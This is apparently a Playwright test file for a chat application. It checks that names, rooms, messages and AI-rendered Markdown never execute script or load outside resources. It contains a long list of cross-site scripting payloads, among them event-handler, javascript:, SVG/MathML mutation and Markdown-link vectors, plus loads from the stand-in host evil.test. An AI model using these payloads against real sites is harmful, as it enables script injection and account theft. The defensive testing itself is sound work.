"""Nothing that anybody can say runs, loads or changes the chat page: names, rooms, messages, and the AI's Markdown."""

import json

from playwright.sync_api import Page, Request, expect

from chat_windows import OpenWindow, StartServer, answer_texts, answers, ask, enter, in_one_mode, join, rows, say
from servers import django_runserver

# Each would set ``ran``, or ask evil.test for something, if it were more than text.
VECTORS = """
<script>ran=1</script>
<script src=//evil.test/x.js></script>
<img src=x onerror=ran=1>
<img src=//evil.test/i.png>
<svg onload=ran=1>
<svg><script>ran=1</script></svg>
<svg><animate onbegin=ran=1 attributeName=x dur=1s>
<svg><a xlink:href="javascript:ran=1"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=ran=1/>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=ran=1></style></mglyph></table></mtext></math>
<math href="javascript:ran=1">x</math>
<iframe src="javascript:parent.ran=1"></iframe>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<iframe src=//evil.test/f></iframe>
<object data="javascript:ran=1"></object>
<embed src=//evil.test/e>
<body onload=ran=1>
<details open ontoggle=ran=1>x</details>
<input autofocus onfocus=ran=1>
<select autofocus onfocus=ran=1></select>
<video><source onerror=ran=1></video>
<audio src=//evil.test/a onerror=ran=1></audio>
<marquee onstart=ran=1>x</marquee>
<form action=//evil.test/form><button>x</button></form>
<button form=composer formaction=//evil.test/b>x</button>
<a href="javascript:ran=1">x</a>
<a href="data:text/html,<script>ran=1</script>">x</a>
<base href=//evil.test/>
<meta http-equiv=refresh content="0;url=//evil.test/">
<link rel=stylesheet href=//evil.test/s.css>
<style>@import "//evil.test/s.css"; body { display: none }</style>
<div style="background:url(//evil.test/bg)">x</div>
<div id=composer class=unseen name=text>x</div>
<noscript><p title="</noscript><img src=x onerror=ran=1>">
<template><script>ran=1</script></template>
<xmp><img src=x onerror=ran=1></xmp>
<plaintext><img src=x onerror=ran=1>
</textarea><script>ran=1</script>
</title></style></script><img src=x onerror=ran=1>
<!--><img src=x onerror=ran=1>-->
<![CDATA[><img src=x onerror=ran=1>]]>
"><img src=x onerror=ran=1>
'-ran=1-'
{{constructor.constructor('ran=1')()}}
${ran=1}
&lt;img src=x onerror=ran=1&gt;
[x](javascript:ran=1)
[x](JaVaScRiPt&colon;ran=1)
[x](vbscript:ran=1)
[x](data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==)
[x](https://a.test/"onmouseover="ran=1)
![x](javascript:ran=1)
![x](//evil.test/md.png)
![x](https://evil.test/md.png "title" onerror="ran=1")
[x]: javascript:ran=1
<javascript:ran=1>
<https://a.test/"onclick="ran=1>
`<img src=x onerror=ran=1>`
| <img src=x onerror=ran=1> | <script>ran=1</script> |
# <img src=x onerror=ran=1>
> <svg onload=ran=1>
- [ ] <input onfocus=ran=1 autofocus>
https://a.test/<img/src=x/onerror=ran=1>
https://a.test/"><script>ran=1</script>
javascript:ran=1//https://a.test/
""".strip().splitlines()
FENCES = [
    '```html"onload=ran=1\n<script>ran=1</script>\n```',
    "```<img src=x onerror=ran=1>\n<img src=x onerror=ran=1>\n```",
    "```js\n</code></pre><img src=x onerror=ran=1>\n```",
    "| a |\n|---|\n| <img src=x onerror=ran=1> |",
    "[x]\n\n[x]: javascript:ran=1",
    '<div\n\nonclick="ran=1"\n\n<img src=x\nonerror=ran=1>\n',
]
ELEMENTS_OF_MARKDOWN = (
    "p br hr strong em del code pre blockquote ul ol li a h1 h2 h3 h4 h5 h6 table thead tbody tr th td "
    "div figure figcaption button span"
)
# Renders texts as answers that stream in, by every prefix, and tells which elements and attributes came of it.
RENDER = """async (texts) => {
  const { MarkdownView } = await import("/static/chat/markdown.js");
  const names = new Set(), attributes = new Set(), addresses = new Set();
  for (const text of texts) {
    const element = document.createElement("div");
    document.getElementById("messages").append(element);
    const view = new MarkdownView(element);
    for (let end = 1; end <= text.length; end += 1) {
      view.show(text.slice(0, end), end === text.length);
      for (const one of element.querySelectorAll("*")) {
        names.add(one.localName);
        for (const { name, value } of one.attributes) {
          attributes.add(name);
          if (name === "href") addresses.add(value);
        }
      }
    }
    element.remove();
  }
  return { names: [...names], attributes: [...attributes], addresses: [...addresses] };
}"""
# Clients without a page, each under a name of its own, who come, type and speak.
STRANGERS = """async ({ room, names }) => {
  window.strangers = [];
  for (const name of names) {
    const socket = io({ forceNew: true, auth: { user_name: name } });
    strangers.push(socket);
    const status = await new Promise((resolve) => socket.once("status", resolve));
    if (status.user !== name) throw new Error(`${name} is ${status.user}`);
    const reply = await socket.emitWithAck("join_room", { room });
    if (!reply.ok) throw new Error(reply.error.message);
    socket.emit("typing", { room });
    await socket.emitWithAck("message", { room, message: name });
    socket.emit("typing", { room });
  }
}"""


@in_one_mode
def test_what_people_and_the_ai_say_is_text_and_never_runs_or_loads_anything(
    async_mode: str, start_server: StartServer, open_window: OpenWindow
) -> None:
    assert len(VECTORS) >= 50
    requested: list[str] = []

    def watch(request: Request) -> None:
        if "evil" in request.url or request.url.endswith("/x"):
            requested.append(request.url)

    def prepare(page: Page) -> None:
        page.on("request", watch)
        page.add_init_script("window.alert = window.confirm = window.prompt = () => { window.ran = 1; };")

    with django_runserver() as backend:
        server = start_server(async_mode=async_mode, llm_url=backend.url, env={"HAZOOM_RATE_LIMIT_PER_S": "0"})
        eve, bob = (enter(open_window, server.url, name, "team", prepare=prepare) for name in ("Eve", "Bob"))
        baseline = bob.evaluate("document.querySelectorAll('script, style, link, iframe, img, meta, base, form').length")
        # Messages.
        for vector in VECTORS:
            say(eve, vector)
        expect(rows(bob).locator(".text")).to_have_text(VECTORS)
        # Answers: as Markdown, each by itself and all together, while they stream and when they are whole.
        ask(eve, "do:echo " + "\n\n".join([*VECTORS, *FENCES]))
        expect(answers(eve).locator(".copy")).to_be_visible()
        for window in (eve, bob):
            expect(answer_texts(window)).to_contain_text("<script>ran=1</script>")
        rendered = bob.evaluate(RENDER, [*VECTORS, *FENCES])
        assert set(rendered["names"]) <= set(ELEMENTS_OF_MARKDOWN.split())
        assert set(rendered["attributes"]) <= {
            *("href", "title", "start", "align", "class", "target", "rel", "tabindex", "role", "aria-label", "type"),
        }
        assert [url for url in rendered["addresses"] if not url.startswith(("https://", "http://", "mailto:"))] == []
        # Names, in the list of people, above messages, among those who type; rooms, in the side bar and the title.
        names = [vector for vector in VECTORS if len(vector) <= 64 and vector == vector.strip()]
        assert len(names) >= 40
        carol = enter(open_window, server.url, "Carol", "names", prepare=prepare)
        carol.evaluate(STRANGERS, {"room": "names", "names": names})
        expect(carol.locator("#people bdi")).to_have_text(["Carol", *names])
        expect(carol.locator("#messages .sender")).to_have_text(names)
        expect(carol.locator("#typing")).to_contain_text(" are typing …")
        for room in (VECTORS[0], VECTORS[2], VECTORS[42], VECTORS[45]):
            join(carol, room)
            expect(carol.locator("#rooms .name", has_text=room)).to_have_count(1)
            expect(carol).to_have_title(f"{room} – hazoom_ws")
        for window in (eve, bob, carol):
            window.reload()
            expect(window.locator("#room")).not_to_have_text("…")
        expect(answers(bob)).to_have_count(1)
        # What can be clicked leads out by http, https or mail, and nothing of it was followed.
        for window in (eve, bob, carol):
            assert window.evaluate("typeof ran") == "undefined"
            count = "document.querySelectorAll('script, style, link, iframe, img, meta, base, form').length"
            assert window.evaluate(count) == baseline
            assert window.evaluate(
                "[...document.querySelectorAll('#messages a')].every(({ protocol }) => /^(https?|mailto):$/.test(protocol))"
            )
            expect(window.locator("#messages :is([onerror], [onload], [onclick], [style])")).to_have_count(0)
        assert requested == []


@in_one_mode
def test_what_is_in_the_browsers_storage_or_address_cannot_break_the_page(
    async_mode: str, start_server: StartServer, open_window: OpenWindow
) -> None:
    server = start_server(async_mode=async_mode)
    wrong = [1, "x", [], {}, {"rooms": 5}, {"rooms": [{"name": 7}, None]}, [{"id": 1}], None, "{"]
    keys = ["name", "guest_key", "rooms", "ai", "theme", "letters", "sound", "notifications", "unsent", "private", "login"]
    window = open_window(f"{server.url}/health", may_log="status of 404")  # it has no icon
    for value in wrong:
        raw = value if value == "{" else json.dumps(value)
        window.evaluate(
            "([keys, raw]) => keys.forEach((key) => { localStorage.setItem(`hazoom_ws.${key}`, raw);"
            " sessionStorage.setItem(`hazoom_ws.${key}`, raw); })",
            [keys, raw],
        )
        window.goto(f"{server.url}/?room=team")
        expect(window.locator("#people")).to_contain_text("(you)")
    say(window, "hello")
    expect(rows(window)).to_have_count(1)
    # A browser that keeps nothing.
    forbidding = "Storage.prototype.getItem = Storage.prototype.setItem = () => { throw new DOMException('no'); };"
    private = enter(open_window, server.url, None, "team", prepare=lambda page: page.add_init_script(forbidding))
    say(private, "hello")
    expect(rows(private)).to_have_count(2)
